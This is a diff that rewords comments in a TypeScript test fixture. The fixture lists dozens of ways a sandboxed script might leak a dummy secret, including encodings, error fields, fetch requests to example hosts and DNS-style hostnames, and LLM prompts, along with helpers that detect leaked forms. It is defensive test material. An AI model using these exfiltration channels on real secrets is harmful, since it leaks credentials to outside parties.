@@ -1,8 +1,8 @@
-/** The value that no way may show. Its signs look different in JSON, in URLs and in HTML. */
+/** The value that must not leak. Some of its characters are escaped in JSON, in URLs or in HTML. */
 export const secret = 'pA5s/w+rd="of&the<vault>-4711'
 export const host = 'api.example.com'
 
-/** The start of a script whose `value` holds the placeholder, and all that a host which was sent the secret answers. */
+/** The start of a script. Its `value` holds the placeholder, and the response of a host that received the secret. */
 export const echoedValue = `
   const key = await settings.get('API_KEY')
   const echo = await fetch('https://${host}/echo?key=' + encodeURIComponent(key), {
@@ -11,7 +11,7 @@ export const echoedValue = `
   const value = [key, echo.headers.get('x-echo'), echo.url, await echo.text()].join(' ')
 `
 
-/** The start of a script that knows the secret by itself. */
+/** The start of a script that has the secret in its own code. */
 export const knownValue = `
   const value = String.fromCharCode(${[...secret].map((sign) => sign.charCodeAt(0)).join(',')})
 `
@@ -32,7 +32,7 @@ const helpers = `
   const pieces = (text, length) => text.match(new RegExp('[^]{1,' + length + '}', 'g')) ?? []
 `
 
-/** How a script tries to get `value` out, by name. `timeout`: in seconds. */
+/** The ways in which a script tries to leak `value`, by name. `timeout`: in seconds. */
 export const ways: readonly (readonly [name: string, code: string, timeout?: number])[] = [
   ['prints it', 'print(value)'],
   ['prints it letter by letter', 'for (const letter of value) print(letter)'],
@@ -57,7 +57,7 @@ export const ways: readonly (readonly [name: string, code: string, timeout?: num
   ['returns it in URL-safe Base64', 'set_result(base64(value).replaceAll("+", "-").replaceAll("/", "_"))'],
   ['returns it in Base64 of JSON', 'set_result(base64(JSON.stringify({ value })))'],
   ['prints it in hex', 'print(hex(value))'],
-  ['prints it in hex after a letter that is a digit, too', 'print("E" + hex(value))'],
+  ['prints it in hex after a letter that is also a hex digit', 'print("E" + hex(value))'],
   ['returns it in upper-case hex, as a key', 'set_result({ [hex(value).toUpperCase()]: true })'],
   ['returns it percent-encoded', 'set_result(encodeURIComponent(value))'],
   ['prints it percent-encoded letter by letter', 'print(percent(value))'],
@@ -79,9 +79,9 @@ export const ways: readonly (readonly [name: string, code: string, timeout?: num
   ['throws an error with it as its name', 'throw Object.assign(new Error("x"), { name: value })'],
   ['throws an error with it as its cause', 'throw new Error("x", { cause: new Error(value) })'],
   ['throws an error with it as its stack', 'throw Object.assign(new Error("x"), { stack: value })'],
-  ['throws in a function with its name', 'const f = { [value]: () => { throw new Error("x") } }; f[value]()'],
-  ['rejects a promise that nothing waits for', 'Promise.reject(new Error(value)); await llm.complete("?")'],
-  ['asks for a setting of its name', 'await settings.get(value)'],
+  ['throws in a function named after it', 'const f = { [value]: () => { throw new Error("x") } }; f[value]()'],
+  ['rejects an unawaited promise with it', 'Promise.reject(new Error(value)); await llm.complete("?")'],
+  ['reads a setting named after it', 'await settings.get(value)'],
   ['sends it in a path', `await fetch('https://${host}/' + encodeURIComponent(value))`],
   ['sends it in a query', `set_result((await fetch('https://${host}/?q=' + base64(value))).url)`],
   ['sends it in a header', `await fetch('https://${host}/', { headers: { 'x-note': value.slice(0, 200) } })`],
@@ -89,16 +89,16 @@ export const ways: readonly (readonly [name: string, code: string, timeout?: num
   ['sends it in a body', `set_result(await (await fetch('https://${host}/', { method: 'POST', body: value })).text())`],
   ['sends it as a method', `await fetch('https://${host}/', { method: value })`],
   ['sends it to an undeclared host', `await fetch('https://other.example/?q=' + encodeURIComponent(value))`],
-  ['asks for a host of its name', 'await fetch("https://" + hex(value).slice(0, 58) + ".example/")'],
-  ['asks for an address that is none', 'await fetch(value)'],
+  ['sends a request to a host named after it', 'await fetch("https://" + hex(value).slice(0, 58) + ".example/")'],
+  ['requests it as a URL', 'await fetch(value)'],
   ['asks the model about it', 'set_result(await llm.complete("What of " + value + "?"))'],
   ['asks the model about it in Base64', 'set_result(await llm.complete(base64(value)))'],
-  ['asks a model of its name', 'await llm.complete("?", value.slice(0, 60))'],
+  ['asks a model named after it', 'await llm.complete("?", value.slice(0, 60))'],
   ['prints it and runs out of fuel', 'print(value); for (;;);'],
   ['prints it in pieces and runs out of time', 'for (const piece of pieces(value, 9)) print(piece); for (;;);', 1],
   ['prints it and runs out of memory', 'print(value); const all = []; for (;;) all.push("x".repeat(1e6) + all.length)'],
   ['prints it until the log is full', 'for (let at = 0; at < 4000; at += 1) print(value)'],
-  ['returns it with too much else', 'set_result([value, "x".repeat(3e6)])'],
+  ['returns it with more data than allowed', 'set_result([value, "x".repeat(3e6)])'],
 ]
 
 export const scriptOf = (start: string, code: string): string => `${start}${helpers}${code}`
@@ -106,13 +106,13 @@ export const scriptOf = (start: string, code: string): string => `${start}${help
 const base64Forms = (text: string) =>
   [0, 1, 2].map((before) => {
     const whole = Buffer.from('a'.repeat(before) + text, 'latin1').toString('base64')
-    // Without the signs that also depend on the neighbours.
+    // Without the characters that also depend on neighboring bytes.
     return whole.slice(before === 0 ? 0 : 4, Math.floor(((before + text.length) * 8) / 6))
   })
 
-/** The signs of each form that a text may not hold, however they are spaced. */
+/** Each form of the secret that a text must not contain, even across line breaks. */
 const forms: readonly string[] = [
-  // A part of 12 letters is too much.
+  // Every part of 12 characters counts as a leak.
   ...Array.from({ length: secret.length - 11 }, (_, at) => secret.slice(at, at + 12)),
   [...secret].reverse().join(''),
   encodeURIComponent(secret),
@@ -125,13 +125,13 @@ const forms: readonly string[] = [
     .flatMap((form) => [form, form.replaceAll('+', '-').replaceAll('/', '_')]),
 ].map((form) => form.replaceAll('\0', '').toLowerCase())
 
-/** The form of the secret that a text holds, also across its line breaks. */
+/** The form in which a text contains the secret, even across line breaks. Undefined: none. */
 export function heldForm(text: string): string | undefined {
   const close = text.replaceAll(/[\n\0]/g, '').toLowerCase()
   return forms.find((form) => close.includes(form))
 }
 
-/** All texts in a value, names of fields included. */
+/** All texts in a value, including the names of fields. */
 export function textsIn(value: unknown): string[] {
   if (typeof value === 'string') return [value]
   if (Array.isArray(value)) return value.flatMap(textsIn)
@@ -139,6 +139,6 @@ export function textsIn(value: unknown): string[] {
   return []
 }
 
-/** The texts in a value that hold the secret in some form. */
+/** The texts in a value that contain the secret in any form. */
 export const leaksIn = (value: unknown): string[] =>
   textsIn(value).flatMap((text) => (heldForm(text) === undefined ? [] : [text.slice(0, 300)]))
